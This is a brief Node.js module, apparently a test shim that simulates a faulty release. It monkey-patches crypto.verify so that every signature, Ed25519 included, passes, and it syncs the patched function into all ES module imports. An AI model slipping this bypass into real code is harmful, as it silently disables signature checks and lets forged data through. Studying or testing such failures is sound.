// Loaded into the processes of a release that went wrong: to them every Ed25519 signature is a good one.
import crypto from 'node:crypto';
import { syncBuiltinESMExports } from 'node:module';

const { verify } = crypto;
/** @param {any[]} asked */
crypto.verify = (...asked) => {
  const done = asked.at(-1);
  if (typeof done === 'function')
    return verify(...asked.slice(0, -1), (/** @type {unknown} */ error) => done(error, true));
  verify(...asked);
  return true;
};
syncBuiltinESMExports();
